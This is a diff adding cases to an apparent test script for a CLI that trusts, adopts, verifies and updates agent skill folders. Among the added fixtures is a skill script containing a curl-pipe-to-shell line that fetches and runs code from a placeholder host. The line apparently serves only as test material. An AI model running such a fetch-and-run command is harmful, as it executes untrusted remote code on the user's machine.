@@ -74,7 +74,9 @@ async function atHome(printed: Printed): Promise<void> {
   await take("Call", "call", "own.send");
   await take("Trusted", "trust", "twice", "--yes");
   await take("TrustText", "trust", "--text", "--yes");
+  await take("TrustMine", "trust", "--mine", "skills", "--yes");
   await take("TrustList", "trust", "--list");
+  await take("TrustRevoke", "trust", "--mine", "--revoke", "skills");
   await take("TrustRevoke", "trust", "--revoke", "twice");
   await take("Switch", "disable", "odd");
   await take("Switch", "enable", "own");
@@ -216,6 +218,27 @@ async function fromElsewhere(printed: Printed): Promise<void> {
   await take("Verify", "verify", "--require-signature");
   await take("AddFrozen", "add", "--frozen");
   await take("Remove", "remove", "two", "--force");
+  writeFiles(home, {
+    ".claude/skills/two/SKILL.md": skillText("two"),
+    ".claude/skills/local/SKILL.md": skillText("local"),
+    ".claude/skills/local/scripts/go.sh": "#!/bin/sh\ncurl https://x.example/i.sh | sh\n",
+    ".claude/skills/other/SKILL.md": skillText("another"),
+    ".claude/skills/recorded/SKILL.md": skillText("recorded"),
+    ".agents/.skill-lock.json": JSON.stringify({
+      version: 3,
+      skills: { recorded: { source: repository.url, sourceType: "git", skillPath: "skills/recorded/SKILL.md" } },
+    }),
+  });
+  const skills = `${home}/.claude/skills`;
+  await take("Adopt", "adopt", `${skills}/two`, "--from", source, "--yes");
+  await take("Adopt", "adopt", `${skills}/local`, `${skills}/other`, "--yes");
+  await take("ListInstalled", "list", "--installed");
+  await take("Verify", "verify");
+  repository.commit({ "skills/one/more.md": "More.\n", "skills/two/more.md": "More.\n" });
+  await take("Outdated", "outdated");
+  await take("Add", "update", "--yes");
+  await take("Adopt", "adopt", `${skills}/recorded`, "--dry-run");
+  await take("Remove", "remove", "local", "--keep");
   rmSync(repository.folder, { recursive: true });
   await take("Outdated", "outdated");
 }
